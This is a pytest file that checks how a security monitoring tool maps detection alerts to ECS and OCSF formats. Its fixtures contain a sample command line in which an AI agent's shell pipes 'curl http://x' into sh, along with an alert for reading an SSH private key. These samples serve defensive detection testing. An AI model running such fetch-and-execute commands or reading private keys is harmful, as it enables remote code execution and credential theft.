"""ECS and OCSF mapping of alerts."""

from __future__ import annotations

import orjson

from collectors.exports.ecs import alert_to_ecs
from collectors.exports.ocsf import alert_to_ocsf
from sensor.schema.alerts import Alert


def _agent_shell_alert() -> Alert:
    return Alert(
        AlertId="a1b2c3",
        UtcTime="2026-11-22T04:10:00.250000Z",
        Hostname="laptop-alice",
        rule_id="6f0b2d7e-0000-4000-8000-000000000001",
        title="Shell spawned by OpenClaw agent",
        level="high",
        status="experimental",
        tags=["attack.execution", "attack.t1059.004"],
        description="A shell descends from the OpenClaw gateway",
        matched=["selection"],
        event={
            "EventId": "ev-1",
            "UtcTime": "2026-11-22T04:10:00.200000Z",
            "Hostname": "laptop-alice",
            "category": "process_creation",
            "product": "linux",
            "source": "processes",
            "ProcessId": 4242,
            "Image": "/usr/bin/bash",
            "CommandLine": "bash -c 'curl http://x | sh'",
            "User": "alice",
            "ParentProcessId": 4000,
            "ParentImage": "/opt/node/bin/node",
            "ParentCommandLine": "openclaw-gateway",
            "AgentProduct": "openclaw",
            "AgentRootPid": 4000,
            "InAgentTree": True,
            "IsAgentProcess": False,
            "AttributionConfidence": "exact",
        },
    )


def _credential_alert() -> Alert:
    return Alert(
        AlertId="d4",
        UtcTime="2026-11-22T05:00:00+00:00",
        Hostname="mac-bob",
        rule_id="rule-cred",
        title="Credential file read",
        level="critical",
        tags=["attack.credential_access", "attack.collection", "attack.t1552"],
        event={
            "EventId": "ev-2",
            "UtcTime": "2026-11-22T05:00:00Z",
            "Hostname": "mac-bob",
            "category": "file_access",
            "product": "macos",
            "TargetFilename": "/Users/bob/.ssh/id_ed25519",
            "FileAccess": "open",
            "CredentialKind": "ssh_private_key",
            "Image": "/usr/bin/cat",
            "ProcessId": 9,
        },
    )


def test_ecs_document_carries_rule_threat_process_and_attribution() -> None:
    doc = alert_to_ecs(_agent_shell_alert())
    assert doc["@timestamp"] == "2026-11-22T04:10:00.250000Z"
    assert doc["event"]["kind"] == "alert"
    assert doc["event"]["category"] == ["process"] and doc["event"]["type"] == ["start"]
    assert doc["event"]["severity"] == 3 and doc["event"]["risk_score"] == 73
    assert doc["rule"]["id"] == "6f0b2d7e-0000-4000-8000-000000000001"
    assert doc["host"]["name"] == "laptop-alice" and doc["host"]["os"]["type"] == "linux"
    assert doc["process"]["name"] == "bash" and doc["process"]["pid"] == 4242
    assert doc["process"]["parent"]["command_line"] == "openclaw-gateway"
    assert doc["threat"]["technique"] == [
        {
            "id": "T1059",
            "reference": "https://attack.mitre.org/techniques/T1059/",
            "subtechnique": [{"id": "T1059.004"}],
        }
    ]
    assert doc["threat"]["tactic"] == [{"id": "TA0002", "name": "Execution"}]
    assert doc["clawwatch"]["agent"] == {
        "product": "openclaw",
        "root_pid": 4000,
        "is_agent_process": False,
        "in_agent_tree": True,
        "attribution_confidence": "exact",
    }
    # nothing unknown is emitted as null
    assert b"null" not in orjson.dumps(doc)
    assert "file" not in doc and "destination" not in doc


def test_ecs_file_access_maps_file_fields() -> None:
    doc = alert_to_ecs(_credential_alert())
    assert doc["event"]["category"] == ["file"] and doc["event"]["type"] == ["access"]
    assert doc["file"] == {"path": "/Users/bob/.ssh/id_ed25519", "name": "id_ed25519", "directory": "/Users/bob/.ssh"}
    assert doc["event"]["risk_score"] == 99
    assert [t["name"] for t in doc["threat"]["tactic"]] == ["Credential Access", "Collection"]
    assert doc["clawwatch"]["credential"] == {"kind": "ssh_private_key"}


def test_ocsf_detection_finding_shape() -> None:
    doc = alert_to_ocsf(_agent_shell_alert())
    assert doc["class_uid"] == 2004 and doc["category_uid"] == 2
    assert doc["activity_id"] == 1 and doc["type_uid"] == 200401
    assert doc["severity_id"] == 4 and doc["severity"] == "High"
    assert doc["time"] == 1795320600250
    assert doc["finding_info"]["uid"] == "a1b2c3"
    assert doc["finding_info"]["analytic"] == {
        "uid": "6f0b2d7e-0000-4000-8000-000000000001",
        "name": "Shell spawned by OpenClaw agent",
        "type_id": 1,
        "type": "Rule",
    }
    assert doc["finding_info"]["attacks"] == [
        {
            "technique": {"uid": "T1059"},
            "sub_technique": {"uid": "T1059.004"},
            "tactic": {"uid": "TA0002", "name": "Execution"},
        }
    ]
    assert doc["device"]["hostname"] == "laptop-alice"
    required = ("activity_id", "category_uid", "class_uid", "type_uid", "severity_id", "time", "metadata")
    assert all(name in doc for name in required)
    process = doc["evidences"][0]["process"]
    assert process["pid"] == 4242 and process["cmd_line"].startswith("bash -c")
    assert process["ai_agent"] == {
        "uid": "openclaw@laptop-alice",
        "instance_uid": "laptop-alice:4000",
        "name": "OpenClaw",
        "type_id": 99,
        "type": "OpenClaw",
    }


def test_ocsf_unattributed_process_has_no_ai_agent() -> None:
    doc = alert_to_ocsf(_credential_alert())
    evidence = doc["evidences"][0]
    assert "ai_agent" not in evidence["process"]
    assert evidence["file"]["name"] == "id_ed25519"
    assert doc["severity_id"] == 5
    # two tactics and one technique: the technique stands alone, each tactic has its own entry
    assert doc["finding_info"]["attacks"] == [
        {"technique": {"uid": "T1552"}},
        {"tactic": {"uid": "TA0006", "name": "Credential Access"}},
        {"tactic": {"uid": "TA0009", "name": "Collection"}},
    ]


def test_unknown_level_and_missing_event_do_not_crash() -> None:
    alert = Alert(AlertId="x", UtcTime="2026-11-22T00:00:00", Hostname="h", rule_id="r", title="t", level="weird")
    assert alert_to_ecs(alert)["event"]["severity"] == 0
    ocsf = alert_to_ocsf(alert)
    assert ocsf["severity_id"] == 1 and "evidences" not in ocsf
